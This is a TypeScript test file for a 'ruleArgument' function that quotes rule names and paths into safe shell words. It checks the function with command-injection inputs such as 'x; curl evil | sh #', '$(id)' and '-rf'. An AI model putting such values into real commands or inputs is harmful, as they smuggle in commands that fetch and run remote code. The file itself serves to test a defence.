import { execFileSync } from "node:child_process";
import fc from "fast-check";
import { expect, it } from "vitest";
import { ruleArgument } from "../../../src/sources/rules/rule-argument.ts";

const KEY = ".continuo/rules/a.md";

it("is a plain name, or else the path", () => {
  expect(ruleArgument({ name: "no-any", key: KEY })).toBe("no-any");
  for (const name of [
    "x; curl evil | sh #",
    "$(id)",
    "`id`",
    "a'b",
    "-rf",
    "two words",
    "",
    "a\nb",
    "a".repeat(101),
  ])
    expect(ruleArgument({ name, key: KEY })).toBe(KEY);
  expect(ruleArgument({ name: "$", key: "rules/it's $(id).md" })).toBe("'rules/it'\\''s $(id).md'");
  for (const key of ["a\u001b[2J.md", "a\nb.md", "a\u202eb.md", "-a.md", "a".repeat(301)])
    expect(ruleArgument({ name: "$", key })).toBe("RULE");
});

it("is one word for a shell, whatever the name and the path are", { timeout: 60_000 }, () => {
  const odd = fc.string({
    unit: fc.constantFrom("'", '"', "$", "`", ";", " ", "\\", "a", "(", ")", "!", "*", "~", "#"),
  });
  fc.assert(
    fc.property(odd, odd, (name, path) => {
      const key = `r/${path}.md`;
      const word = ruleArgument({ name, key });
      const read = execFileSync("sh", ["-c", `printf '%s|' ${word}`], { encoding: "utf8" });
      expect([`${name}|`, `${key}|`, "RULE|"]).toContain(read);
    }),
    { numRuns: 40 },
  );
});
